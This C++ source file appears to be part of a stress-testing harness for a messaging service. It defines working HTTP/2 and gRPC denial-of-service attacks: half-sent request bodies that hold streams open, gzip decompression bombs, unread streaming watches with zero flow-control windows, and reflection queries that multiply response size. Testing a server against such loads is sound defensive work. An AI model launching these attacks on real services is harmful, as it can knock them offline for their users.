// Attacks by requests with bodies over HTTP/2, REST and gRPC, and by calls with many answers.
#include <memory>
#include <zlib.h>

#include "siege/attack/http2_script.h"
#include "tocsin/v1/push.pb.h"

namespace tocsin::bench::siege {
namespace {

using http2::append_field;
using http2::grpc_block;
using http2::request_block;

constexpr size_t streams_max = 256;
constexpr char reflection[] = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
constexpr char health_watch[] = "/grpc.health.v1.Health/Watch";
constexpr char message_watch[] = "/tocsin.v1.Send/WatchMessage";

// A message of gRPC: compressed or not, its length, itself.
std::string grpc_message(std::string_view bytes, bool is_compressed = false) {
  std::string message(1, is_compressed ? '\1' : '\0');
  put_be(static_cast<uint32_t>(bytes.size()), message);
  return message.append(bytes);
}

// `bytes` zeros, by gzip.
std::string gzip_of_zeros(size_t bytes) {
  constexpr int gzip_window = 15 + 16;
  constexpr int memory_level = 8;
  const std::string zeros(bytes, '\0');
  z_stream stream{};
  deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, gzip_window, memory_level,
               Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&stream, bytes), '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(zeros.data()));
  stream.avail_in = static_cast<uInt>(bytes);
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

// About 60 KB of gzip that are 60 MB, which is under what a body may have, and a thousand times it.
const std::string& bomb() {
  static const std::string bytes = gzip_of_zeros(60'000'000);
  return bytes;
}

// Requests with a body, as many at once; those that were ended are replaced. A body that does not
// end is only half of what its head says.
class Bodies final : public Http2Script {
 public:
  struct Kind {
    std::string head;
    std::string body;
    size_t at_once = streams_max;
    bool ends = false;
  };
  explicit Bodies(Kind kind) : kind_(std::move(kind)) {}

 private:
  void go_on(std::string& out) override {
    while (out.size() < batch_bytes && open_streams() < kind_.at_once &&
           take_window(kind_.body.size())) {
      http2::append_data(out, begin(out, kind_.head, 0), kind_.body,
                         kind_.ends ? http2::end_stream : uint8_t{0});
    }
  }

  const Kind kind_;
};

std::string send_head(const Prey& prey, const std::string& key) {
  std::string head = request_block("POST", "/v1/apps/" + prey.app + "/messages", key);
  append_field(head, "content-type", "application/json");
  return head;
}

// 256 of them fill the window of a connection.
constexpr size_t half_bytes = 4'000;

std::unique_ptr<Script> half_sends(const Prey& prey, uint32_t) {
  std::string head = send_head(prey, prey.send_key);
  append_field(head, "content-length", std::to_string(2 * half_bytes));
  return std::make_unique<Bodies>(Bodies::Kind{std::move(head), std::string(half_bytes, ' ')});
}

std::unique_ptr<Script> half_calls(const Prey&, uint32_t) {
  std::string half = grpc_message(std::string(2 * half_bytes, '\0'));
  half.resize(half_bytes);
  return std::make_unique<Bodies>(Bodies::Kind{grpc_block(http2::health_check), std::move(half)});
}

constexpr size_t bombs_at_once = 8;

Attack::MakeScript rest_bombs(bool has_key) {
  return [has_key](const Prey& prey, uint32_t) {
    std::string head = send_head(prey, has_key ? prey.send_key : "");
    append_field(head, "content-encoding", "gzip");
    return std::make_unique<Bodies>(Bodies::Kind{std::move(head), bomb(), bombs_at_once, true});
  };
}

std::unique_ptr<Script> grpc_bombs(const Prey&, uint32_t) {
  std::string head = grpc_block(http2::health_check);
  append_field(head, "grpc-encoding", "gzip");
  return std::make_unique<Bodies>(
      Bodies::Kind{std::move(head), grpc_message(bomb(), true), bombs_at_once, true});
}

// Watches of the server's health, without a key, and of a message, with one; windows of 0, and
// nothing is read. No more than a server of one thread gives.
class UnreadWatches final : public Http2Script {
 public:
  explicit UnreadWatches(const Prey& prey) : Http2Script(0) {
    const std::string nothing = grpc_message({});
    v1::WatchMessageRequest request;
    request.set_app(prey.app);
    request.set_message_id(prey.message_id);
    const std::string message = grpc_message(request.SerializeAsString());
    const std::string health_head = grpc_block(health_watch);
    const std::string message_head = grpc_block(message_watch, prey.send_key);
    for (size_t i = 0; i < health_watches; ++i) {
      http2::append_data(batch_, begin(batch_, health_head, 0), nothing, http2::end_stream);
    }
    for (size_t i = health_watches; i < streams_max; ++i) {
      http2::append_data(batch_, begin(batch_, message_head, 0), message, http2::end_stream);
    }
  }
  bool reads() const override { return false; }

 private:
  static constexpr size_t health_watches = 60;
  void go_on(std::string& out) override { out += std::exchange(batch_, {}); }

  std::string batch_;
};

// Streams of questions about what the server can do, whose answers are a thousand times as long.
class Questions final : public Http2Script {
 public:
  explicit Questions(bool reads) : Http2Script(reads ? http2::window_max : 0), reads_(reads) {
    constexpr std::string_view symbol = "tocsin.v1.Send";
    const std::string question = std::string("\x22\x0e").append(symbol);
    for (size_t i = 0; i < questions; ++i) questions_ += grpc_message(question);
  }

 private:
  static constexpr size_t questions = 500;
  static constexpr size_t at_once = 16;

  void go_on(std::string& out) override {
    while (open_streams() < at_once && take_window(questions_.size())) {
      http2::append_data(out, begin(out, head_, 0), questions_,
                         reads_ ? http2::end_stream : uint8_t{0});
    }
  }

  const std::string head_ = grpc_block(reflection);
  const bool reads_;
  std::string questions_;
};

template <typename Made, typename... Arguments>
Attack::MakeScript make(Arguments... arguments) {
  return [=](const Prey&, uint32_t) { return std::make_unique<Made>(arguments...); };
}

std::unique_ptr<Script> unread_watches(const Prey& prey, uint32_t) {
  return std::make_unique<UnreadWatches>(prey);
}

}  // namespace

std::vector<Attack> http2_body_attacks() {
  constexpr auto http2 = Approach::http2;
  return {
      {"half-requests", "256 gRPC calls with half a message", http2, half_calls},
      {"half-requests-key", "256 sends with half a body, with a key", http2, half_sends},
      {"gunzip-bomb", "bodies that gunzip makes a thousand times as long", http2,
       rest_bombs(false)},
      {"gunzip-bomb-key", "the same with a key", http2, rest_bombs(true)},
      {"grpc-gunzip-bomb", "the same over gRPC, to a call that takes no key", http2, grpc_bombs},
      {"grpc-unread-watch", "256 watches that nobody reads, 196 of them with a key", http2,
       unread_watches},
      {"reflection", "questions with long answers, which are read", http2, make<Questions>(true)},
      {"reflection-unread", "the same, and a window of 0", http2, make<Questions>(false)},
  };
}

}  // namespace tocsin::bench::siege
